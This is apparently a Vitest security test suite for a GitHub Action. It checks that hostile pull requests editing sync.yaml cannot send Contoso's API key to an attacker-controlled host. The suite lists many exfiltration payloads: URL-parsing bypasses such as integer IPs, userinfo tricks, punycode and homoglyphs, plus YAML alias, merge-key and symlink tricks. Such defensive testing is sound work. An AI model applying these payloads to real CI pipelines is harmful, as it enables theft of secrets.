import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { ActionRig, type ActionSetup } from '../support/action-rig.ts';
import { AttackerHost } from '../support/attacker-host.ts';
import { smallWorld } from '../support/worlds.ts';

type Hosts = { readonly emulator: string; readonly emulatorPort: string; readonly attacker: number };
type Attack = (manifest: string, hosts: Hosts) => string;

const contosoUrl = (manifest: string, url: string): string =>
  manifest.replace(/(?<=contoso:\n\s+destination_tenant_url: ).*/, url);

/** What a pull request can write to get at Contoso's key. */
const ATTACKS: { readonly [name: string]: Attack } = {
  'another host': (text, { attacker }) => contosoUrl(text, `http://127.0.0.1:${attacker}/contoso`),
  'another port behind the same name': (text, { emulator, attacker, emulatorPort }) =>
    contosoUrl(text, `${emulator.replace(emulatorPort, String(attacker))}/contoso`),
  'another name for this machine': (text, { attacker }) => contosoUrl(text, `http://localhost:${attacker}/contoso`),
  'an IPv4 address in another form': (text, { attacker }) => contosoUrl(text, `http://127.1:${attacker}/contoso`),
  'a number as the host': (text, { attacker }) => contosoUrl(text, `http://2130706433:${attacker}/contoso`),
  'a host in upper case': (text, { attacker }) => contosoUrl(text, `http://LOCALHOST:${attacker}/contoso`),
  'a scheme in upper case': (text, { attacker }) => contosoUrl(text, `HTTP://127.0.0.1:${attacker}/contoso`),
  'user information': (text, { attacker, emulatorPort }) =>
    contosoUrl(text, `http://127.0.0.1:${emulatorPort}@127.0.0.1:${attacker}/contoso`),
  'user information behind a backslash': (text, { attacker, emulatorPort }) =>
    contosoUrl(text, `http://127.0.0.1:${emulatorPort}\\@127.0.0.1:${attacker}/contoso`),
  'characters that look alike': (text, { attacker }) => contosoUrl(text, `http://①②⑦.0.0.1:${attacker}/contoso`),
  punycode: (text, { attacker }) => contosoUrl(text, `http://xn--lcalhost-54d:${attacker}/contoso`),
  'a trailing dot': (text, { attacker }) => contosoUrl(text, `http://localhost.:${attacker}/contoso`),
  'a path above': (text, { emulator, attacker }) => contosoUrl(text, `${emulator}/contoso/../../127.0.0.1:${attacker}`),
  'a new destination with the old key': (text, { attacker }) => `${text}  mallory:
    destination_tenant_url: http://127.0.0.1:${attacker}/contoso
    destination_tenant_api_key: \${CONTOSO_KEY}
    destination_team_id: 1
    stories: [enrich]
`,
  'an alias of the old key': (text, { attacker }) =>
    `${text.replace('destination_tenant_api_key: ${CONTOSO_KEY}', 'destination_tenant_api_key: &key ${CONTOSO_KEY}')}  mallory:
    destination_tenant_url: http://127.0.0.1:${attacker}/contoso
    destination_tenant_api_key: *key
    destination_team_id: 1
    stories: [enrich]
`,
  'a merge key over the old destination': (text, { attacker }) =>
    `${text.replace('  contoso:\n', '  contoso: &contoso\n')}  mallory:
    <<: *contoso
    destination_tenant_url: http://127.0.0.1:${attacker}/contoso
`,
  'a merge key under the old destination': (text, { attacker }) =>
    text.replace(
      /destinations:\n {2}contoso:\n.*\n/,
      `destinations:\n  contoso:\n    <<: { destination_tenant_url: "http://127.0.0.1:${attacker}/contoso" }\n`,
    ),
  'a second entry of the same name': (text, { attacker }) => `${text}  contoso:
    destination_tenant_url: http://127.0.0.1:${attacker}/contoso
    destination_tenant_api_key: \${CONTOSO_KEY}
    destination_team_id: 42
    stories: [enrich]
`,
  'the origin': (text, { attacker }) =>
    `${text.replaceAll(/(enrich|triage): \{\}/g, '$1: { id: 1 }').replace('id: 1 }\n  triage: { id: 1', 'id: 2 }\n  triage: { id: 1')}  mallory:
    destination_tenant_url: http://127.0.0.1:${attacker}/contoso
    destination_team_id: 2
    stories: [enrich]
origin:
  tenant_url: http://127.0.0.1:${attacker}/contoso
  team_id: 1
  api_key: \${CONTOSO_KEY}
`,
};

async function attack(action: ActionRig, attacker: AttackerHost, change: Attack): Promise<string> {
  const base = action.head();
  const emulator = action.rig.url;
  const hosts = { emulator, emulatorPort: new URL(emulator).port, attacker: attacker.port };
  const changed = change(action.rig.read('sync.yaml'), hosts);
  expect(changed).not.toBe(action.rig.read('sync.yaml'));
  action.rig.write('sync.yaml', changed);
  action.rig.commit('attack');
  return base;
}

async function expectNothingLeft(
  action: ActionRig,
  attacker: AttackerHost,
  run: { readonly log: string },
): Promise<void> {
  expect(attacker.seen).toEqual([]);
  expect((await action.rig.log()).filter(({ status }) => status === 401 || status === 404)).toEqual([]);
  expect(run.log).not.toContain(action.keys().CONTOSO_KEY);
}

describe('a hostile pull request does not get a key by', () => {
  let action: ActionRig;
  let attacker: AttackerHost;
  beforeAll(async () => {
    action = await ActionRig.around(smallWorld());
    attacker = await AttackerHost.start();
  });
  afterAll(async () => {
    await action[Symbol.asyncDispose]();
    await attacker[Symbol.asyncDispose]();
  });

  it.each(Object.entries(ATTACKS))('%s', async (_name, change) => {
    const base = await attack(action, attacker, change);
    try {
      const planned = await action.run(action.pullRequest(base));
      await expectNothingLeft(action, attacker, planned);
      // What the rules of the manifest refuse ends before there is a difference between the commands.
      if (planned.log.includes('error MAN')) return;
      await expectNothingLeft(
        action,
        attacker,
        await action.run(action.pullRequest(base), { inputs: { command: 'sync' } }),
      );
    } finally {
      action.rig.git('reset', '--quiet', '--hard', base);
    }
  });

  it('two keys swapped', async () => {
    await using action = await ActionRig.around(smallWorld());
    await using attacker = await AttackerHost.start();
    const base = await attack(action, attacker, (text) =>
      text.replace('CONTOSO_KEY', 'X').replace('FABRIKAM_KEY', 'CONTOSO_KEY').replace('{X}', '{FABRIKAM_KEY}'),
    );
    const run = await action.run(action.pullRequest(base));
    expect(run.code).toBe(0);
    expect(await action.rig.log()).toEqual([]);
    expect(action.check.annotations[0]?.message).toContain('a key is used only where the default branch uses it');
  });

  it('a manifest that is a link to another', async () => {
    await using action = await ActionRig.around(smallWorld());
    await using attacker = await AttackerHost.start();
    const good = action.rig.read('sync.yaml');
    const base = action.head();
    action.rig.write('evil.yaml', contosoUrl(good, `http://127.0.0.1:${attacker.port}/contoso`));
    action.rig.git('rm', '--quiet', 'sync.yaml');
    symlinkSync('evil.yaml', join(action.rig.dir, 'sync.yaml'));
    action.rig.commit('attack');
    await expectNothingLeft(action, attacker, await action.run(action.pullRequest(base)));
  });
});

describe('the test above', () => {
  it('could fail: after the merge the key goes where the default branch sends it', async () => {
    await using action = await ActionRig.around(smallWorld());
    await using attacker = await AttackerHost.start();
    await attack(action, attacker, (text) => contosoUrl(text, `http://127.0.0.1:${attacker.port}/contoso`));
    action.github.branches.set('main', action.head());
    await action.run(action.pullRequest(action.head()));
    expect(attacker.seen[0]?.authorization ?? attacker.seen[0]?.['x-user-token']).toContain(action.keys().CONTOSO_KEY);
  });
});

describe('the default branch', () => {
  const otherHost =
    (attacker: AttackerHost): Attack =>
    (text) =>
      contosoUrl(text, `http://127.0.0.1:${attacker.port}/contoso`);

  /** The plan of a pull request that moves Contoso to another host. */
  async function planIn(setup: (action: ActionRig, base: string) => ActionSetup) {
    const action = await ActionRig.around(smallWorld());
    onTestFinished(() => action[Symbol.asyncDispose]());
    const attacker = await AttackerHost.start();
    onTestFinished(() => attacker[Symbol.asyncDispose]());
    const original = action.rig.read('sync.yaml');
    const base = await attack(action, attacker, otherHost(attacker));
    action.github.files.set(`${base}:sync.yaml`, original);
    const run = await action.run(action.pullRequest(base), setup(action, base));
    expect(attacker.seen).toEqual([]);
    const asked = new Set((await action.rig.log()).map(({ tenant }) => tenant));
    return { action, run, asked };
  }

  it('is read from git, and only what it does not have is planned offline, with the reason on its line', async () => {
    const { action, run, asked } = await planIn(() => ({}));
    expect(run.code).toBe(0);
    expect([...asked]).toEqual(['fabrikam']);
    expect(action.github.requests.some(({ path }) => path.includes('/contents/'))).toBe(false);
    const marks = action.check.annotations.filter(({ title }) => title?.startsWith('contoso / '));
    expect(marks).toHaveLength(2);
    for (const { message } of marks) expect(message).toContain('CONTOSO_KEY belongs to');
    expect(run.summary).toContain('**Planned offline:** 1 destination is new');
    expect(run.log).not.toContain('missing');
  });

  it('is read through GitHub where the clone has one commit', async () => {
    const { action, run, asked } = await planIn((rig) => ({ workspace: rig.shallowClone() }));
    expect(run.code).toBe(0);
    expect([...asked]).toEqual(['fabrikam']);
    expect(action.github.requests.filter(({ path }) => path.includes('/contents/'))).toHaveLength(1);
  });

  it('that nobody can read leaves everything offline', async () => {
    const { action, run, asked } = await planIn((rig) => {
      rig.github.permissions = { ...rig.github.permissions, contents: 'none' };
      return { workspace: rig.shallowClone() };
    });
    expect(run.code).toBe(0);
    expect([...asked]).toEqual([]);
    expect(action.check.annotations[0]?.message).toContain('did not let us read the head of the branch (forbidden');
    expect(run.summary).toContain('**Planned offline:** no tenant was asked');
  });

  it('without a manifest leaves everything offline', async () => {
    await using action = await ActionRig.around(smallWorld());
    const manifest = action.rig.read('sync.yaml');
    action.rig.git('rm', '--quiet', 'sync.yaml');
    const base = action.merge();
    action.rig.write('sync.yaml', manifest);
    action.rig.commit();
    const run = await action.run(action.pullRequest(base));
    expect(run).toMatchObject({ code: 0, outputs: { created: '4' } });
    expect(await action.rig.log()).toEqual([]);
  });
});
